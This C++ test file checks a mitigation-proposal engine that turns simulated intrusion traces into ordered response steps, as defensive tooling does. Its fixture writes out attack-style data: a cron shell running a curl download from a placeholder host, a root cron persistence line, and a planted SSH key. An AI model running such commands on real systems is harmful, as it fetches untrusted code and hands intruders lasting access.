// SPDX-License-Identifier: GPL-3.0-or-later
// What is proposed for traces of harmless and of hostile programs.
#include "core/mitigation/proposal.h"

#include "core/mitigation/trace_confidence.h"
#include "core/plan/plan_codec.h"
#include "tests/endpoint/trace_fixture.h"

using namespace metsuke;
using namespace metsuke::mitigation;
using namespace metsuke::endpoint::test;
using endpoint::FileId;
using endpoint::ProcessUid;
using endpoint::Trace;
using plan::Action;
using testing::Contains;
using testing::ElementsAre;
using testing::IsEmpty;
using testing::Not;

namespace {

const std::string kDigest(64, 'a');
constexpr const char* kProgram = "/home/ann/.update";
const FileId kFile{8, 100};

class Proposing : public testing::Test {
protected:
    /// Fetched by curl for a cron job, and calling home since.
    void intrude() {
        m_shell = scenario.run(m_cron, "/usr/bin/sh", {"sh", "-c", "curl http://h/u -o .update"});
        const ProcessUid curl = scenario.run(m_shell, "/usr/bin/curl");
        scenario.connect(curl, kDrop, 80, 40'000);
        endpoint::FileChanged written;
        written.path = kProgram;
        written.file = kFile;
        written.sha256 = kDigest;
        scenario.tell(curl, written);
        scenario.end(curl);
        m_program = scenario.run(m_shell, kProgram, {}, kFile);
        scenario.persist(m_program, "cron", "/etc/cron.d/upd", "* * * * * root /home/ann/.update");
        m_child = scenario.run(m_program, "/usr/bin/sleep", {"sleep", "9"});
        scenario.at(60).connect(m_program, kEvil, 4444, 50'000);
    }
    Proposal proposal(double at = 60) {
        m_question.trace = trace(scenario, beacon(at));
        m_question.device = "device";
        m_question.boot = m_question.boot.empty() ? "boot" : m_question.boot;
        return propose(m_question);
    }
    static std::vector<Action> actions(const Proposal& proposal, bool isChosen) {
        std::vector<Action> all;
        for (const ProposedStep& one : proposal.steps) {
            if (one.isChosen == isChosen) {
                all.push_back(one.step.action);
            }
        }
        return all;
    }
    static const ProposedStep* find(const Proposal& proposal, Action action) {
        const auto found = std::ranges::find_if(proposal.steps, [&](const ProposedStep& one) { return one.step.action == action; });
        return found == proposal.steps.end() ? nullptr : &*found;
    }
    static std::vector<std::string> leftOut(const Proposal& proposal) {
        std::vector<std::string> ids;
        for (const Message& one : proposal.leftOut) {
            ids.push_back(one.id);
        }
        return ids;
    }
    /// Nothing is chosen that changes the computer.
    static void expectHarmless(const Proposal& proposal) {
        for (const ProposedStep& one : proposal.steps) {
            EXPECT_FALSE(one.isChosen && traitsOf(one.step.action).isMutating) << traitsOf(one.step.action).name;
        }
    }

    Scenario scenario;
    ProcessUid m_init = scenario.running(kInit);
    ProcessUid m_cron = scenario.running(kCron, m_init);
    ProcessUid m_shell, m_program, m_child;
    ProposalQuestion m_question;
};

} // namespace

TEST_F(Proposing, Intrusion_isAnsweredInTheSafeOrder) {
    intrude();
    const Proposal made = proposal();
    EXPECT_THAT(actions(made, true),
        ElementsAre(Action::CollectEvidence, Action::SuspendProcess, Action::KillConnections, Action::DenyAddress, Action::RemovePersistence,
            Action::QuarantineFile, Action::KillProcess));
    EXPECT_THAT(actions(made, false), ElementsAre(Action::ContainHost, Action::ScanFiles));
    const auto& file = std::get<plan::FileTarget>(find(made, Action::QuarantineFile)->step.target);
    EXPECT_EQ(file.path, kProgram);
    EXPECT_EQ(file.sha256, kDigest);
    const auto& process = std::get<plan::ProcessTarget>(find(made, Action::KillProcess)->step.target);
    EXPECT_EQ(endpoint::processUid("device", process.boot, process.pid, process.start), m_program);
    EXPECT_TRUE(process.isTree);
    EXPECT_EQ(std::get<plan::AddressTarget>(find(made, Action::DenyAddress)->step.target).address, *IpAddress::parse(kEvil));
    EXPECT_EQ(std::get<plan::PersistenceTarget>(find(made, Action::RemovePersistence)->step.target).path, "/etc/cron.d/upd");
    for (const ProposedStep& one : made.steps) {
        EXPECT_FALSE(one.step.why.id.empty());
        for (const Language language : {Language::English, Language::Japanese}) {
            EXPECT_THAT(catalog().render(one.step.why, language), Not(testing::HasSubstr("{"))) << one.step.why.id;
        }
    }
}

TEST_F(Proposing, Plan_isOfTheChosenSteps_andTravels) {
    intrude();
    const Proposal made = proposal();
    const auto plan = planOf(made, m_question, kStart);
    ASSERT_TRUE(plan.ok()) << plan.error().message.id;
    EXPECT_EQ(plan->steps.size(), actions(made, true).size());
    EXPECT_EQ(plan->notAfter, kStart + 4 * kHour);
    const auto read = plan::readPlan(plan::writePlan(*plan));
    ASSERT_TRUE(read.ok()) << read.error().message.id;
    EXPECT_EQ(*read, *plan);
}

TEST_F(Proposing, SameTrace_isAnsweredTheSameWay) {
    intrude();
    const Proposal first = proposal(), second = proposal();
    ASSERT_EQ(first.steps.size(), second.steps.size());
    for (size_t i = 0; i < first.steps.size(); ++i) {
        EXPECT_EQ(first.steps[i].step, second.steps[i].step);
    }
}

TEST_F(Proposing, TreeOfTheCulprit_isOneStep) {
    intrude();
    const Proposal made = proposal();
    EXPECT_EQ(std::ranges::count_if(made.steps, [](const ProposedStep& one) { return one.step.action == Action::KillProcess; }), 1);
}

TEST_F(Proposing, ProcessesOfAnEarlierBoot_areLeftAlone) {
    intrude();
    m_question.boot = "another boot";
    const Proposal made = proposal();
    EXPECT_EQ(find(made, Action::KillProcess), nullptr);
    EXPECT_EQ(find(made, Action::SuspendProcess), nullptr);
    EXPECT_THAT(leftOut(made), Contains("mitigation.left_other_boot"));
    EXPECT_NE(find(made, Action::QuarantineFile), nullptr) << "the file is there still";
}

TEST_F(Proposing, ProgramThatHasEnded_isNotKilled) {
    intrude();
    scenario.end(m_child);
    scenario.end(m_program);
    EXPECT_EQ(find(proposal(), Action::KillProcess), nullptr);
}

TEST_F(Proposing, FileThatTheAntivirusTookAway_isNeitherQuarantinedNorBroughtBack) {
    intrude();
    scenario.at(70).tell({}, endpoint::Detected{"ClamAV", "Unix.Trojan.X", kProgram, {}, endpoint::Detected::Outcome::Quarantined, "/q/update"}, "clamav_log");
    const Proposal made = proposal();
    EXPECT_EQ(find(made, Action::QuarantineFile), nullptr);
    EXPECT_EQ(find(made, Action::RestoreFile), nullptr);
    EXPECT_NE(find(made, Action::KillProcess), nullptr) << "it runs still";
    ASSERT_THAT(leftOut(made), Contains("mitigation.left_antivirus"));
    const auto why = std::ranges::find(made.leftOut, std::string("mitigation.left_antivirus"), &Message::id);
    EXPECT_EQ(catalog().render(*why, Language::English).find('{'), std::string::npos);
    EXPECT_NE(catalog().render(*why, Language::English).find("to /q/update"), std::string::npos);
}

TEST_F(Proposing, FileThatTheAntivirusOnlyReported_isQuarantinedAndTheReasonSaysSo) {
    intrude();
    EXPECT_EQ(catalog().render(find(proposal(), Action::QuarantineFile)->step.why, Language::English), "/home/ann/.update is a program of the culprit's.");
    scenario.at(70).tell({}, endpoint::Detected{"ClamAV", "Unix.Trojan.X", kProgram, {}, endpoint::Detected::Outcome::Reported, {}}, "clamav_log");
    const Proposal made = proposal();
    const ProposedStep* step = find(made, Action::QuarantineFile);
    ASSERT_NE(step, nullptr);
    EXPECT_EQ(catalog().render(step->step.why, Language::English), "/home/ann/.update is a program of the culprit's. ClamAV found Unix.Trojan.X in it.");
}

TEST_F(Proposing, FileWithAnEntryAmongOthers_losesTheEntry_andIsNotTakenAway) {
    intrude();
    endpoint::FileChanged written;
    written.path = "/root/.ssh/authorized_keys";
    written.file = {8, 101};
    written.sha256 = std::string(64, 'b');
    scenario.tell(m_program, written);
    scenario.persist(m_program, "ssh_keys", written.path, "ssh-ed25519 AAAA evil");
    const Proposal made = proposal();
    EXPECT_NE(find(made, Action::RemovePersistence), nullptr);
    for (const ProposedStep& one : made.steps) {
        if (const auto* file = std::get_if<plan::FileTarget>(&one.step.target)) {
            EXPECT_EQ(file->path, kProgram);
        }
    }
}

TEST_F(Proposing, FileWithSeveralNames_isTakenByAllThatMayBeTouched) {
    intrude();
    scenario.link(m_child, kProgram, "/home/ann/.copy", kFile);
    scenario.link(m_child, kProgram, "/usr/lib/.hidden", kFile);
    scenario.link(m_child, kProgram, "/srv/tools/.third", kFile);
    const Proposal made = proposal();
    const ProposedStep* step = find(made, Action::QuarantineFile);
    ASSERT_NE(step, nullptr);
    EXPECT_EQ(std::get<plan::FileTarget>(step->step.target), (plan::FileTarget{"/srv/tools/.third", kDigest, false, {kProgram, "/home/ann/.copy"}}));
    EXPECT_EQ(std::ranges::count_if(made.steps, [](const ProposedStep& one) { return one.step.action == Action::QuarantineFile; }), 1) << "one file";
    EXPECT_THAT(made.leftOut, Contains(Message("mitigation.left_system").with("path", "/usr/lib/.hidden")));
    EXPECT_TRUE(planOf(made, m_question, kStart).ok());

    m_question.exceptions = {{"x-1", ExceptionKind::Path, "/srv/tools/", "", "shared", "ito", kStart, kStart + kDay}};
    const Proposal spared = proposal();
    step = find(spared, Action::QuarantineFile);
    ASSERT_NE(step, nullptr);
    EXPECT_EQ(std::get<plan::FileTarget>(step->step.target), (plan::FileTarget{"/home/ann/.copy", kDigest, false, {kProgram}}));
    EXPECT_THAT(leftOut(spared), Contains("exceptions.left_alone"));
    const plan::Step later{"s1", Action::QuarantineFile, plan::FileTarget{kProgram, kDigest, false, {"/srv/tools/.third"}}, {}};
    EXPECT_NE(exceptionFor(later, nullptr, "device", m_question.exceptions), nullptr) << "also by another name";
}

TEST_F(Proposing, FileWithoutDigest_isKeptAsEvidenceOnly) {
    m_shell = scenario.run(m_cron, "/usr/bin/sh", {"sh", "-c", "x"});
    scenario.write(m_shell, kProgram, kFile);
    m_program = scenario.run(m_shell, kProgram, {}, kFile);
    scenario.at(60).connect(m_program, kEvil, 4444, 50'000);
    const Proposal made = proposal();
    EXPECT_EQ(find(made, Action::QuarantineFile), nullptr);
    EXPECT_THAT(leftOut(made), Contains("mitigation.left_no_digest"));
    EXPECT_NE(find(made, Action::KillProcess), nullptr);
}

TEST_F(Proposing, Documents_thatTheCulpritWrote_areLeftAsTheyAre) {
    intrude();
    for (uint64_t i = 0; i < 5; ++i) {
        scenario.write(m_program, "/home/ann/letter" + std::to_string(i), {8, 200 + i});
    }
    const Proposal made = proposal();
    EXPECT_EQ(std::ranges::count_if(made.steps, [](const ProposedStep& one) { return one.step.action == Action::QuarantineFile; }), 1);
    EXPECT_THAT(leftOut(made), Contains("mitigation.left_written"));
}

TEST_F(Proposing, UpdateOfThePackageManager_changesNothing) {
    const ProcessUid apt = scenario.run(m_cron, "/usr/bin/apt-get", {"apt-get", "upgrade"});
    scenario.at(60).connect(apt, kEvil, 4444, 50'000);
    const Proposal made = proposal();
    expectHarmless(made);
    EXPECT_THAT(leftOut(made), Contains("mitigation.left_no_subject"));
}

TEST_F(Proposing, BrowserAndInteractiveShell_changeNothing) {
    const ProcessUid terminal = scenario.running("/usr/bin/gnome-terminal-server", m_init);
    const ProcessUid shell = scenario.run(terminal, "/usr/bin/bash", {"bash"});
    const ProcessUid browser = scenario.run(shell, "/usr/bin/firefox", {"firefox"});
    scenario.at(60).connect(browser, kEvil, 4444, 50'000);
    expectHarmless(proposal());
}

TEST_F(Proposing, CompilerAtWork_isNeverTouched) {
    const ProcessUid make = scenario.run(m_cron, "/usr/bin/make", {"make"});
    const ProcessUid gcc = scenario.run(make, "/usr/bin/gcc", {"gcc", "a.c"});
    scenario.write(gcc, "/home/ann/a.out", kFile);
    scenario.at(60).connect(make, kEvil, 4444, 50'000);
    expectHarmless(proposal());
}

TEST_F(Proposing, AddressesOfTheIncident_areOfferedOnly_whenNothingIsToBlame) {
    const ProcessUid apt = scenario.run(m_cron, "/usr/bin/apt-get");
    scenario.at(60).connect(apt, kEvil, 4444, 50'000);
    m_question.addresses = {*IpAddress::parse(kEvil)};
    m_question.names = {"evil.example"};
    const Proposal made = proposal();
    expectHarmless(made);
    EXPECT_THAT(actions(made, false), ElementsAre(Action::DenyAddress, Action::DenyName));
}

TEST_F(Proposing, NameOfTheIncident_isDeniedByWhatItStoodFor_andSaysWhoElseGoesWithIt) {
    intrude();
    const auto at = [](const char* text) { return *IpAddress::parse(text); };
    m_question.names = {"evil.example"};
    m_question.management = {at("203.0.113.250")};
    m_question.named = {{"c2.evil.example", at("203.0.113.6")}, {"evil.example", at("203.0.113.5")}, {"evil.example", at("203.0.113.250")},
        {"evil.example", at("10.0.0.9")}, {"evil.example", at("0.0.0.0")}, {"news.example", at("203.0.113.6")}, {"notevil.example", at("203.0.113.8")},
        {"shop.example", at(kEvil)}};
    const Proposal made = proposal();
    const ProposedStep* name = find(made, Action::DenyName);
    ASSERT_NE(name, nullptr);
    EXPECT_THAT(std::get<plan::NameTarget>(name->step.target).addresses, ElementsAre(at("203.0.113.5"), at("203.0.113.6")));
    const auto shared = [](const char* other) { return Message("mitigation.note_shared").with("count", int64_t{1}).with("names", other); };
    EXPECT_THAT(name->notes, Contains(shared("news.example")));
    EXPECT_THAT(find(made, Action::DenyAddress)->notes, Contains(shared("shop.example")));
    for (const Language language : {Language::English, Language::Japanese}) {
        EXPECT_THAT(catalog().render(shared("shop.example"), language), testing::HasSubstr("shop.example"));
    }
    EXPECT_EQ(factsOf(made).notes.at(name->step.id), name->notes);
}

TEST_F(Proposing, ConnectionsOfProcesses_areEndedWhateverTheirEnds_whenThatIsWanted) {
    intrude();
    m_question.connections = Connections::ByProcess;
    const Proposal made = proposal();
    EXPECT_EQ(std::ranges::count_if(made.steps, [](const ProposedStep& one) { return one.step.action == Action::KillConnections; }), 1);
    const ProposedStep* cut = find(made, Action::KillConnections);
    ASSERT_NE(cut, nullptr);
    EXPECT_TRUE(cut->isChosen);
    const auto& target = std::get<plan::ConnectionTarget>(cut->step.target);
    EXPECT_EQ(target.process, std::get<plan::ProcessTarget>(find(made, Action::KillProcess)->step.target));
    EXPECT_TRUE(target.remote.isUnset());
    EXPECT_TRUE(planOf(made, m_question, kStart).ok());
}

TEST_F(Proposing, LoginsAndInit_belowTheCulprit_areNeverItsTop) {
    intrude();
    // Its own child became a service manager's, and a person logged in over a shell that it had started.
    const ProcessUid session = scenario.fork(m_program);
    scenario.exec(session, "/usr/sbin/sshd", {"sshd"});
    scenario.end(m_program);
    const Proposal made = proposal();
    for (const ProposedStep& one : made.steps) {
        if (const auto* target = std::get_if<plan::ProcessTarget>(&one.step.target)) {
            EXPECT_NE(target->image, "/usr/sbin/sshd");
        }
    }
    EXPECT_THAT(leftOut(made), Contains("mitigation.left_way_in"));
}

TEST_F(Proposing, ReplacedProgramOfAPackage_isRestored_notTakenAway) {
    const ProcessUid shell = scenario.run(m_cron, "/usr/bin/sh", {"sh", "-c", "x"});
    scenario.write(shell, "/usr/sbin/ntpd", kFile);
    const ProcessUid ntpd = scenario.run(m_cron, "/usr/sbin/ntpd", {}, kFile);
    scenario.at(60).connect(ntpd, kEvil, 4444, 50'000);
    const Proposal made = proposal();
    EXPECT_EQ(find(made, Action::QuarantineFile), nullptr);
    ASSERT_NE(find(made, Action::RestorePackageFile), nullptr);
    EXPECT_EQ(std::get<plan::PackageFileTarget>(find(made, Action::RestorePackageFile)->step.target).package, "ntpd");
}

TEST_F(Proposing, FilesOfPackages_areOfferedByForceOnly) {
    intrude();
    m_question.packaged = PackagedFiles::Offered;
    const Proposal byForce = proposal();
    const ProposedStep* const own = find(byForce, Action::QuarantineFile);
    ASSERT_NE(own, nullptr);
    EXPECT_TRUE(own->isChosen);
    EXPECT_TRUE(std::get<plan::FileTarget>(own->step.target).isForced) << "it may turn out to be a package's";
    for (endpoint::TraceNode& node : m_question.trace.nodes) {
        node.isPackaged = node.isPackaged || node.label == kProgram;
    }
    const Proposal offered = propose(m_question);
    const ProposedStep* const packaged = find(offered, Action::QuarantineFile);
    ASSERT_NE(packaged, nullptr);
    EXPECT_FALSE(packaged->isChosen) << "on purpose only";
    EXPECT_EQ(std::get<plan::FileTarget>(packaged->step.target), (plan::FileTarget{kProgram, kDigest, true}));
    m_question.packaged = PackagedFiles::LeftAlone;
    const Proposal usual = propose(m_question);
    EXPECT_EQ(find(usual, Action::QuarantineFile), nullptr);
    EXPECT_THAT(leftOut(usual), Contains("mitigation.left_system"));
}

TEST_F(Proposing, WhatTheAnalystLooksFor_isAStepOfItsOwn_alsoWithoutATrace) {
    m_question.device = "device";
    m_question.boot = "boot";
    m_question.scan.rules = "rule a { condition: true }";
    const Proposal alone = propose(m_question);
    EXPECT_THAT(actions(alone, true), ElementsAre(Action::ScanFiles));
    const auto& usual = std::get<plan::ScanTarget>(find(alone, Action::ScanFiles)->step.target);
    EXPECT_EQ(usual.rules, m_question.scan.rules);
    EXPECT_THAT(usual.folders, Contains("/home"));
    EXPECT_TRUE(planOf(alone, m_question, kStart).ok());
    intrude();
    m_question.scan.folders = {"/data"};
    const Proposal made = proposal();
    EXPECT_THAT(actions(made, true), Contains(Action::ScanFiles));
    EXPECT_THAT(actions(made, false), Contains(Action::ScanFiles)) << "copies are looked for elsewhere";
}

TEST_F(Proposing, Workstation_isNeverCutOff) {
    intrude();
    scenario.connect(m_program, "192.0.2.1", 8883, 50'001);
    m_question.management = {*IpAddress::parse("192.0.2.1")};
    const Proposal made = proposal();
    for (const ProposedStep& one : made.steps) {
        if (const auto* target = std::get_if<plan::AddressTarget>(&one.step.target)) {
            EXPECT_NE(target->address, *IpAddress::parse("192.0.2.1"));
        }
    }
}

TEST_F(Proposing, InsideAndProtectedAddresses_areOfferedWithWhy) {
    intrude();
    scenario.connect(m_program, "10.0.0.9", 445, 50'001);
    scenario.connect(m_program, "198.51.100.7", 443, 50'002);
    m_question.protectedAddresses = {*Cidr::parse("198.51.100.0/24")};
    const Proposal made = proposal();
    std::map<std::string, std::string> notes;
    for (const ProposedStep& one : made.steps) {
        if (const auto* target = std::get_if<plan::AddressTarget>(&one.step.target); target != nullptr && !one.isChosen) {
            notes[target->address.toString()] = one.notes.front().id;
        }
    }
    EXPECT_EQ(notes["10.0.0.9"], "mitigation.note_inside");
    EXPECT_EQ(notes["198.51.100.7"], "mitigation.note_protected");
    ASSERT_EQ(made.blast.assets.size(), 1U);
}

TEST_F(Proposing, NameServer_isNotBlocked_becauseTheCulpritAskedIt) {
    intrude();
    scenario.connect(m_program, "198.51.100.53", 53, 50'001);
    for (const ProposedStep& one : proposal().steps) {
        if (const auto* target = std::get_if<plan::AddressTarget>(&one.step.target)) {
            EXPECT_NE(target->address.toString(), "198.51.100.53");
        }
    }
}

TEST_F(Proposing, OpenSessions_areTold) {
    intrude();
    const Proposal made = proposal();
    ASSERT_FALSE(made.blast.sessions.empty());
    EXPECT_EQ(made.blast.sessions.front().id, "mitigation.blast_session");
}

TEST_F(Proposing, WhatIsUnsure_isOfferedUnchosen) {
    intrude();
    m_question.trace = trace(scenario, beacon(60));
    m_question.device = "device";
    m_question.boot = "boot";
    for (endpoint::TraceEdge& edge : m_question.trace.edges) {
        edge.confidence = edge.to == m_question.trace.connection ? 0.3 : edge.confidence;
    }
    const Proposal made = propose(m_question);
    expectHarmless(made);
    EXPECT_FALSE(find(made, Action::KillProcess)->isChosen);
    EXPECT_NEAR(find(made, Action::KillProcess)->confidence, 0.3, 0.01);
}

TEST_F(Proposing, LargeTrace_isBoundedAndQuick) {
    intrude();
    for (uint16_t i = 0; i < 900; ++i) {
        scenario.connect(m_program, "203.0.113." + std::to_string(i % 250), static_cast<uint16_t>(1'000 + i), static_cast<uint16_t>(20'000 + i));
    }
    const Proposal made = proposal();
    EXPECT_LE(made.steps.size(), plan::kMostSteps);
    EXPECT_THAT(leftOut(made), Contains("mitigation.left_too_many"));
    EXPECT_TRUE(planOf(made, m_question, kStart).ok());
}

TEST_F(Proposing, WhatIsLeftAlone_isNotProposed_andSaidSo) {
    intrude();
    Exception path{"x-1", ExceptionKind::Path, "/home/ann/.update", "", "tool", "ito", kStart, kStart + kDay};
    m_question.exceptions = {path};
    const Proposal one = proposal();
    EXPECT_EQ(find(one, Action::QuarantineFile), nullptr);
    EXPECT_NE(find(one, Action::KillProcess), nullptr); // a path is no program: say --image for that
    ASSERT_THAT(leftOut(one), Contains("exceptions.left_alone"));
    m_question.exceptions = {{"x-2", ExceptionKind::Sha256, kDigest, "", "tool", "ito", kStart, kStart + kDay}};
    EXPECT_EQ(find(proposal(), Action::QuarantineFile), nullptr);
    m_question.exceptions = {{"x-3", ExceptionKind::Remote, "203.0.113.0/24", "", "partner", "ito", kStart, kStart + kDay}};
    for (const ProposedStep& one : proposal().steps) {
        const auto* address = std::get_if<plan::AddressTarget>(&one.step.target);
        EXPECT_TRUE(address == nullptr || address->address.toString() != kEvil);
    }
    m_question.exceptions = {{"x-4", ExceptionKind::Host, "device", "device", "lab", "ito", kStart, kStart + kDay}};
    expectHarmless(proposal());
    EXPECT_NE(find(proposal(), Action::CollectEvidence), nullptr); // a look does no harm
    m_question.exceptions = {{"x-5", ExceptionKind::Host, "other", "other", "lab", "ito", kStart, kStart + kDay}};
    EXPECT_NE(find(proposal(), Action::QuarantineFile), nullptr);
}

TEST_F(Proposing, ProgramThatIsLeftAlone_isSparedBelowTheCulprit) {
    intrude();
    m_question.exceptions = {{"x-1", ExceptionKind::Image, "/usr/bin/sleep", "", "tool", "ito", kStart, kStart + kDay}};
    const Proposal made = proposal();
    const ProposedStep* kill = find(made, Action::KillProcess);
    ASSERT_NE(kill, nullptr);
    EXPECT_FALSE(std::get<plan::ProcessTarget>(kill->step.target).isTree);
    for (const ProposedStep& one : made.steps) {
        const auto* process = std::get_if<plan::ProcessTarget>(&one.step.target);
        EXPECT_TRUE(process == nullptr || (process->image != "/usr/bin/sleep" && !process->isTree));
    }
    EXPECT_THAT(leftOut(made), Contains("exceptions.left_alone"));
}

TEST(BlastConfidence, TraceWithoutSubject_isSureOfNothing) {
    Trace empty;
    empty.nodes.resize(3);
    empty.blast = {0, 1};
    EXPECT_THAT(blastConfidence(empty), ElementsAre(0, 0, 0));
}
